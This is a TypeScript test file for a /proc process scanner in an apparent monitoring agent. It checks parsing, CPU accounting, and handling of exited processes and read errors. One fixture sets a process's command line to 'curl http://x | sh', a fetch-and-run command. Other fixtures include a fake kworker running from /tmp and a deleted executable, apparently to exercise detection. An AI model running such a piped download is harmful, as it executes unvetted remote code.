import { mkdirSync, mkdtempSync, rmSync, cpSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { ProcessScanner } from './scan.ts'
import { ProcFileError, createProcFiles } from '../platform/proc-files.ts'
import type { ProcFiles } from '../platform/proc-files.ts'

const FIXTURE = join(import.meta.dirname, '../../test/fixtures/proc-pids')

describe('ProcessScanner on a fixture /proc', () => {
  it('reads every process, kernel threads and zombies included', async () => {
    const scanner = new ProcessScanner({ procfs: FIXTURE })
    const table = await scanner.scan(1_700_000_100_000)
    scanner.close()
    expect([...table.processes.keys()].sort((a, b) => a - b)).toEqual([1, 2, 10, 100, 101, 200, 300, 400, 401, 500])
    expect(table.bootTimeSeconds).toBe(1_700_000_000)
    const py = table.processes.get(100)
    expect(py).toMatchObject({
      comm: 'python3',
      state: 'R',
      ppid: 1,
      numThreads: 24,
      cpuUserSeconds: 123.45,
      cpuSystemSeconds: 6.78,
      majorFaults: 7,
      minorFaults: 90000,
      uid: 1000,
      residentBytes: 2048000 * 1024,
      swappedBytes: 1024 * 1024,
      voluntaryCtxtSwitches: 4000,
      readBytes: 1048576,
      writeBytes: 2097152,
      openFds: 5,
      startTimeSeconds: 1_700_005_000,
    })
    expect(py?.identity).toMatchObject({ argv: ['python3', 'train.py', '--config', 'configs/llama.yaml'], exe: '/usr/bin/python3.11', exeDeleted: false, container: false })
    expect(table.processes.get(200)?.comm).toBe('a) (b c')
    expect(table.processes.get(2)).toMatchObject({ kernelThread: true, identity: { argv: [] } })
    expect(table.processes.get(10)?.kernelThread).toBe(true)
    expect(table.processes.get(300)).toMatchObject({ state: 'Z', kernelThread: false })
    expect(table.processes.get(400)).toMatchObject({ kernelThread: false, identity: { argv: ['[kworker/0:1]'], exe: '/tmp/.cache/kw', container: true } })
    expect(table.processes.get(401)?.identity).toMatchObject({ exe: '/tmp/x', exeDeleted: true })
    expect(table.readErrors).toEqual({ vanished: 0, permission: 0, parse: 0, other: 0 })
  })

  it('computes CPU cores between ticks and forgets exited processes', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'odin-proc-'))
    try {
      cpSync(FIXTURE, dir, { recursive: true, verbatimSymlinks: true })
      const scanner = new ProcessScanner({ procfs: dir, files: createProcFiles(0) })
      await scanner.scan(1000)
      // 100 used 2 more CPU seconds over 4 s; 401 exited.
      writeFileSync(join(dir, '100/stat'), '100 (python3) R 1 1 1 0 -1 4194304 90000 0 7 0 12445 778 0 0 20 0 24 0 500000 12345678 250 1\n')
      rmSync(join(dir, '401'), { recursive: true })
      const t2 = await scanner.scan(5000)
      expect(t2.processes.get(100)?.cpuCores).toBeCloseTo(0.5)
      expect(t2.processes.has(401)).toBe(false)
      expect(t2.processes.get(1)?.cpuCores).toBe(0)
    } finally {
      rmSync(dir, { recursive: true })
    }
  })
})

describe('ProcessScanner sees an exec that keeps the comm', () => {
  const stat = (argStart: number) =>
    `600 (sh) S 1 600 600 0 -1 4194304 10 0 0 0 1 0 0 0 20 0 1 0 700000 2732032 250 18446744073709551615 1 1 1 0 0 0 0 0 65538 1 0 0 17 1 0 0 0 0 0 1 1 1 ${argStart} ${argStart + 40} ${argStart + 40} ${argStart + 60} 0\n`
  it('re-reads argv when arg_start moves (a forked `sh -c` that became `sh`), not on every tick', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'odin-proc-'))
    try {
      mkdirSync(join(dir, '600'))
      writeFileSync(join(dir, 'stat'), 'btime 1700000000\n')
      writeFileSync(join(dir, '600/stat'), stat(1000))
      cpSync(join(FIXTURE, '1/status'), join(dir, '600/status'))
      writeFileSync(join(dir, '600/cmdline'), 'sh\0-c\0curl http://x | sh\0')
      const scanner = new ProcessScanner({ procfs: dir, files: createProcFiles(0) })
      expect((await scanner.scan(1000)).processes.get(600)?.identity.argv).toEqual(['sh', '-c', 'curl http://x | sh'])
      // It ran (utime moved) without an exec: argv is not re-read.
      writeFileSync(join(dir, '600/cmdline'), 'rewritten\0')
      writeFileSync(join(dir, '600/stat'), stat(1000).replace(' 10 0 0 0 1 0 ', ' 10 0 0 0 2 0 '))
      expect((await scanner.scan(2000)).processes.get(600)?.identity.argv).toEqual(['sh', '-c', 'curl http://x | sh'])
      // exec("sh"): same comm, argv somewhere else.
      writeFileSync(join(dir, '600/cmdline'), 'sh\0')
      writeFileSync(join(dir, '600/stat'), stat(5000).replace(' 10 0 0 0 1 0 ', ' 10 0 0 0 3 0 '))
      expect((await scanner.scan(3000)).processes.get(600)?.identity.argv).toEqual(['sh'])
      scanner.close()
    } finally {
      rmSync(dir, { recursive: true })
    }
  })
})

/** A ProcFiles over the fixture that fails chosen paths with a code. */
function failing(failures: Record<string, string>): ProcFiles {
  const real = createProcFiles(0)
  const check = (path: string) => {
    for (const [suffix, code] of Object.entries(failures)) {
      if (path.endsWith(suffix)) {
        throw new ProcFileError(`${code}: ${path}`, code)
      }
    }
  }
  return {
    ...real,
    read: (p) => (check(p), real.read(p)),
    readdir: (p) => (check(p), real.readdir(p)),
    countFds: (p) => (check(p), real.countFds(p)),
    readlink: (p) => (check(p), real.readlink(p)),
  }
}

describe('ProcessScanner read errors', () => {
  it('counts EACCES on optional files and keeps the process', async () => {
    const scanner = new ProcessScanner({ procfs: FIXTURE, files: failing({ '/100/io': 'EACCES', '/100/fd': 'EACCES', '/1/exe': 'EPERM' }) })
    const table = await scanner.scan(0)
    expect(table.processes.get(100)).toMatchObject({ readBytes: undefined, openFds: undefined, comm: 'python3' })
    expect(table.processes.get(1)?.identity.exe).toBeUndefined()
    expect(table.readErrors.permission).toBe(3)
  })

  it('counts a denial once per process and file, not on every tick it is read again', async () => {
    // PID 1's io denied to a root agent (seen live: +1 every tick); 100's io denied too.
    const scanner = new ProcessScanner({ procfs: FIXTURE, refreshEvery: 1, files: failing({ '/1/io': 'EACCES', '/100/io': 'EACCES', '/1/exe': 'EPERM' }) })
    for (let tick = 0; tick < 5; tick++) {
      const table = await scanner.scan(tick * 15_000)
      expect(table.processes.get(1)).toMatchObject({ readBytes: undefined, identity: { exe: undefined } })
      expect(table.readErrors).toEqual({ vanished: 0, permission: 3, parse: 0, other: 0 })
    }
    scanner.close()
  })

  it('exports a live process whose optional files are missing, without those fields', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'odin-proc-'))
    try {
      cpSync(FIXTURE, dir, { recursive: true, verbatimSymlinks: true })
      for (const file of ['io', 'cgroup', 'ns', 'exe', 'cwd']) {
        rmSync(join(dir, '100', file), { recursive: true, force: true })
      }
      const table = await new ProcessScanner({ procfs: dir, files: createProcFiles(0) }).scan(0)
      const p = table.processes.get(100)
      expect(p).toMatchObject({ comm: 'python3', readBytes: undefined, writeBytes: undefined, residentBytes: 2048000 * 1024, openFds: 5 })
      expect(p?.identity).toMatchObject({ argv: ['python3', 'train.py', '--config', 'configs/llama.yaml'], exe: undefined, cwd: undefined, netns: undefined, container: false })
      expect(table.readErrors).toEqual({ vanished: 0, permission: 0, parse: 0, other: 0 })
    } finally {
      rmSync(dir, { recursive: true })
    }
  })

  it('still drops a process whose optional file is missing because it exited', async () => {
    const real = createProcFiles(0)
    let gone = false
    const files: ProcFiles = {
      ...real,
      read: (p) => {
        if (p.endsWith('/100/io')) {
          gone = true
        }
        if (gone && p.includes('/100/')) {
          throw new ProcFileError(`ENOENT: ${p}`, 'ENOENT')
        }
        return real.read(p)
      },
    }
    const table = await new ProcessScanner({ procfs: FIXTURE, files }).scan(0)
    expect(table.processes.has(100)).toBe(false)
    expect(table.readErrors.vanished).toBe(1)
  })

  it('drops a process that vanishes mid-read and counts it', async () => {
    const scanner = new ProcessScanner({ procfs: FIXTURE, files: failing({ '/101/status': 'ENOENT', '/200/io': 'ESRCH', '/300/stat': 'ENOENT' }) })
    const table = await scanner.scan(0)
    expect(table.processes.has(101)).toBe(false)
    expect(table.processes.has(200)).toBe(false)
    expect(table.processes.has(300)).toBe(false)
    expect(table.processes.has(100)).toBe(true)
    expect(table.readErrors.vanished).toBe(3)
  })

  it('counts a malformed stat as a parse error, never fatal', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'odin-proc-'))
    try {
      cpSync(FIXTURE, dir, { recursive: true, verbatimSymlinks: true })
      writeFileSync(join(dir, '200/stat'), '200 (trunc')
      const table = await new ProcessScanner({ procfs: dir, files: createProcFiles(0) }).scan(0)
      expect(table.processes.has(200)).toBe(false)
      expect(table.readErrors.parse).toBe(1)
    } finally {
      rmSync(dir, { recursive: true })
    }
  })
})

describe('ProcessScanner on the live /proc', () => {
  it('sees itself, and re-reads a held stat descriptor as the process runs', async () => {
    const scanner = new ProcessScanner({ procfs: '/proc' })
    const t1 = await scanner.scan(Date.now())
    const me = t1.processes.get(process.pid)
    expect(me?.identity.argv.length).toBeGreaterThan(0)
    const until = Date.now() + 150
    while (Date.now() < until) {
      // burn CPU so utime moves
    }
    const t2 = await scanner.scan(Date.now())
    scanner.close()
    const after = t2.processes.get(process.pid)
    expect((after?.cpuUserSeconds ?? 0) + (after?.cpuSystemSeconds ?? 0)).toBeGreaterThan((me?.cpuUserSeconds ?? 0) + (me?.cpuSystemSeconds ?? 0))
  })
})
